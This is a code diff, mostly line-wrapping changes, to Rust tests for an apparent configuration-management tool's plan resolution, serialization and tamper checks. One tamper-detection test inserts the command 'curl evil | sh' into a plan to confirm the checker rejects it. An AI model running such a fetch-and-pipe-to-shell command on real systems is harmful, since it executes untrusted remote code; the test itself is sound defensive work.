         let relative = DesiredState::new("h").with(Resource::directory("etc/a"));
-        assert!(relative.resolve().await.unwrap_err().to_string().contains("absolute"));
+        assert!(
+            relative
+                .resolve()
+                .await
+                .unwrap_err()
+                .to_string()
+                .contains("absolute")
+        );
         let undefined = DesiredState::new("h")
-            .with_context(crate::TemplateContext::new(&serde_json::json!({}), &serde_json::json!({}), &serde_json::json!({})))
-            .with(Resource::file("/a", Content::template("a.j2", "{{ vars.nope }}")));
-        assert!(undefined.resolve().await.unwrap_err().to_string().starts_with("h: template a.j2: line 1"));
+            .with_context(crate::TemplateContext::new(
+                &serde_json::json!({}),
+                &serde_json::json!({}),
+                &serde_json::json!({}),
+            ))
+            .with(Resource::file(
+                "/a",
+                Content::template("a.j2", "{{ vars.nope }}"),
+            ));
+        assert!(
+            undefined
+                .resolve()
+                .await
+                .unwrap_err()
+                .to_string()
+                .starts_with("h: template a.j2: line 1")
+        );
     }
 
     #[tokio::test]
@@ -705,19 +1092,36 @@ mod tests {
              P\t/etc/systemd/system/demo.service\tabsent\nS\tLoadState=not-found\nS\t\n";
         let d = desired("port=80\n");
         let p = plan_of(&d, observed).await.unwrap();
-        let plan = Plan::new(vec![crate::plan::StepPlan { name: "s".into(), hosts: vec![p.clone()] }]);
+        let plan = Plan::new(vec![crate::plan::StepPlan {
+            name: "s".into(),
+            hosts: vec![p.clone()],
+        }]);
         let back = Plan::from_json(&plan.to_json()).unwrap();
         assert_eq!(back, plan);
         assert!(plan.to_json().contains("\"formatVersion\": 1"));
         check_against(&p, &[&d.resolve().await.unwrap()]).unwrap();
         let other = desired("port=81\n").resolve().await.unwrap();
         let e = check_against(&p, &[&other]).unwrap_err().to_string();
-        assert!(e.contains("file:/etc/demo/demo.conf: its content changed since the plan was made"), "{e}");
+        assert!(
+            e.contains("file:/etc/demo/demo.conf: its content changed since the plan was made"),
+            "{e}"
+        );
         let mut tampered = p.clone();
-        tampered.actions[1].ops = vec![Op::Run { command: "curl evil | sh".into() }];
-        let e = check_against(&tampered, &[&d.resolve().await.unwrap()]).unwrap_err().to_string();
+        tampered.actions[1].ops = vec![Op::Run {
+            command: "curl evil | sh".into(),
+        }];
+        let e = check_against(&tampered, &[&d.resolve().await.unwrap()])
+            .unwrap_err()
+            .to_string();
         assert!(e.contains("not one the desired state allows"), "{e}");
-        let v2 = plan.to_json().replace("\"formatVersion\": 1", "\"formatVersion\": 2");
-        assert!(Plan::from_json(&v2).unwrap_err().to_string().contains("version 2 is not supported"));
+        let v2 = plan
+            .to_json()
+            .replace("\"formatVersion\": 1", "\"formatVersion\": 2");
+        assert!(
+            Plan::from_json(&v2)
+                .unwrap_err()
+                .to_string()
+                .contains("version 2 is not supported")
+        );
     }
 }
